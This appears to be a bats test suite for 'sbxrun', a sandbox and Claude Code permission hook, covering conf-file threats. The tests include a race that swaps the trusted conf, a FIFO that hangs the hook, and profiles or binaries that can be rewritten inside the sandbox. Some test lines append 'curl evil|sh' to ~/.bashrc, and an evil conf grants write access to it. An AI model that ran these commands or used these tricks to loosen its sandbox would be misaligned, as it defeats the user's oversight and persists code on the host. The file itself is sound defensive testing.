#!/usr/bin/env bats
# The confs that decide the sandbox (THREATS CONF-01..04): what is trusted
# is what is applied, a conf the sandbox planted can neither hang sbxrun
# nor its agent hook, and nothing a later run trusts is writable inside.
# Judged from outside: host files unchanged, the run finished in time.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() { esc_setup; }
teardown() { esc_teardown; }

hook_input() {
	jq -nc --arg c "$1" --arg cwd "$P" '{session_id: "s",
		transcript_path: "/t", cwd: $cwd, permission_mode: "default",
		hook_event_name: "PreToolUse", tool_name: "Bash",
		tool_input: {command: $c, description: "test"},
		tool_use_id: "toolu_test"}'
}

# ------------------------------------------------------------ CONF-01

@test "CONF-01 the trusted .sbxrun.conf swapped between its hash and its parse is never applied" {
	cp "$HOME/.bashrc" "$T/bashrc.before"
	echo 'limits = { timeout = 600; };' > "$T/good.conf"
	echo 'paths = ( { root = "~/.bashrc"; mode = "rw"; } );' > "$T/evil.conf"
	cp "$T/good.conf" "$P/.sbxrun.conf"
	run "$SBXRUN" --trust
	[ "$status" -eq 0 ]
	# outside, as fast as it can: the trusted bytes, then others
	"$PY" -c '
import os, sys
good, evil, dst = sys.argv[1:4]
tmp = dst + ".swap"
while True:
    for src in (good, evil):
        try:
            os.link(src, tmp); os.replace(tmp, dst)
        except OSError:
            pass
' "$T/good.conf" "$T/evil.conf" "$P/.sbxrun.conf" "$MARK" &
	bg_track $!
	for i in $(seq 40); do
		xsbx -c 'echo "curl evil|sh # $PPID" >> "$HOME/.bashrc"' >/dev/null 2>&1 || true
	done
	cmp "$T/bashrc.before" "$HOME/.bashrc"
}

# ------------------------------------------------------------ CONF-03

@test "CONF-03 a FIFO planted as .sbxrun.conf: sbxrun and the agent hook answer at once" {
	run xsbx -c 'mkfifo .sbxrun.conf'
	[ -p "$P/.sbxrun.conf" ] || mkfifo "$P/.sbxrun.conf"
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 0 ]
	[[ "$output" == *".sbxrun.conf"*"FIFO"*"ignored"* ]]
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" --hook claude-code < <(hook_input 'echo hi')
	[ "$status" -eq 0 ]
	[ "$(jq -r .hookSpecificOutput.permissionDecision <<<"$output")" = allow ]
	# a symlink to it is no better: refused with the repair, at once
	rm "$P/.sbxrun.conf"
	mkfifo "$T/fifo"
	ln -s "$T/fifo" "$P/.sbxrun.conf"
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 125 ]
	[[ "$output" == *".sbxrun.conf"*"symbolic link"*"To repair"* ]]
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" --hook claude-code < <(hook_input 'echo hi')
	[ "$status" -eq 0 ]
	[ "$(jq -r .hookSpecificOutput.permissionDecision <<<"$output")" = deny ]
	run timeout 10 "$SBXRUN" --trust
	[ "$status" -ne 0 ]
	[ "$status" -ne 124 ]
}

@test "CONF-03 a FIFO as the user's own conf: a clear refusal, never a hang" {
	mkfifo "$HOME/.config/sbxrun/config"
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 125 ]
	[[ "$output" == *"config: refusing a conf file that is a FIFO"* ]]
	run timeout 10 "$SBXRUN" --mode "$SBX_MODE" --hook claude-code < <(hook_input 'echo hi')
	[ "$status" -eq 0 ]
	[ "$(jq -r .hookSpecificOutput.permissionDecision <<<"$output")" = deny ]
}

@test "CONF-03 the hook denies by itself when held up past its deadline (the agent would let a timeout through)" {
	start=$(date +%s)
	run timeout 20 "$SBXRUN" --mode "$SBX_MODE" --hook claude-code \
		< <(printf '{"hook_event_name": '; exec -a "$MARK" sleep 15)
	end=$(date +%s)
	[ "$status" -eq 0 ]
	[ $((end - start)) -lt 10 ]
	[ "$(jq -r .hookSpecificOutput.permissionDecision <<<"$output")" = deny ]
	[[ "$(jq -r .hookSpecificOutput.permissionDecisionReason <<<"$output")" == *"no answer within"*"unsandboxed"* ]]
}

@test "CONF-03 install-hook.sh gives the agent a timeout longer than the hook's own deadline" {
	run "$SBX_TOP/scripts/install-hook.sh" --project "$P" --sbxrun "$SBXRUN"
	[ "$status" -eq 0 ]
	t=$(jq '.hooks.PreToolUse[0].hooks[0].timeout' "$P/.claude/settings.json")
	[ "$t" -gt 5 ]
}

# ------------------------------------------------------------ CONF-02/04

@test "CONF-02 a trusted conf naming a profile inside the project: refused, so the sandbox cannot weaken the next run" {
	cp "$HOME/.bashrc" "$T/bashrc.before"
	mkdir -p "$P/tools"
	echo 'profile = "default";' > "$P/tools/sbx.conf"
	echo "profile = \"$P/tools/sbx.conf\";" > "$P/.sbxrun.conf"
	run "$SBXRUN" --trust
	[ "$status" -eq 0 ]
	# run 1 rewrites the profile, run 2 would use it
	run xsbx -c 'printf "profile = \"default\";\npaths = ( { root = \"~/.bashrc\"; mode = \"rw\"; } );\n" > tools/sbx.conf'
	[ "$status" -eq 125 ]
	[[ "$output" == *"conf file '$P/tools/sbx.conf' would be writable inside the sandbox"*"keep conf and profile files outside"* ]]
	[ "$(cat "$P/tools/sbx.conf")" = 'profile = "default";' ]
	# the attack from outside, as if run 1 had got through: still refused
	printf 'profile = "default";\npaths = ( { root = "~/.bashrc"; mode = "rw"; } );\n' > "$P/tools/sbx.conf"
	run xsbx -c 'echo "curl evil|sh" >> "$HOME/.bashrc"'
	[ "$status" -eq 125 ]
	cmp "$T/bashrc.before" "$HOME/.bashrc"
	# outside the writable paths it is honoured
	mkdir -p "$T/prof" && cp "$SBX_TOP/profiles/strict.conf" "$T/prof/mine.conf"
	echo "profile = \"$T/prof/mine.conf\";" > "$P/.sbxrun.conf"
	"$SBXRUN" --trust
	run xsbx -c 'touch x'
	[ "$status" -ne 0 ]
	[ ! -e "$P/x" ]
}

@test "CONF-04 a vendored sbxrun inside the project refuses to run (it could be rewritten from inside)" {
	mkdir -p "$P/vendor"
	cp "$SBXRUN" "$SBX_BUILD/libsbxshim.so" "$P/vendor/"
	cp "$P/vendor/sbxrun" "$T/sbxrun.before"
	run timeout 60 "$P/vendor/sbxrun" --mode "$SBX_MODE" -- "$SBX_SYS.static" write "$P/vendor/sbxrun" x
	[ "$status" -eq 125 ]
	[[ "$output" == *"sbxrun's own program '$P/vendor/sbxrun' would be writable inside the sandbox"*"install sbxrun outside"* ]]
	cmp "$T/sbxrun.before" "$P/vendor/sbxrun"
	# the shim alone inside
	run env SBXRUN_SHIM="$P/vendor/libsbxshim.so" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 125 ]
	[[ "$output" == *"sbxrun's shim '$P/vendor/libsbxshim.so' would be writable"* ]]
	# profiles inside (a vendored share/sbxrun/profiles)
	mkdir -p "$P/profiles" && cp "$SBX_TOP"/profiles/*.conf "$P/profiles/"
	run env SBXRUN_PROFILE_DIR="$P/profiles" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 125 ]
	[[ "$output" == *"conf file '$P/profiles/default.conf' would be writable"* ]]
	# the same copy outside the writable paths runs
	run timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 0 ]
}
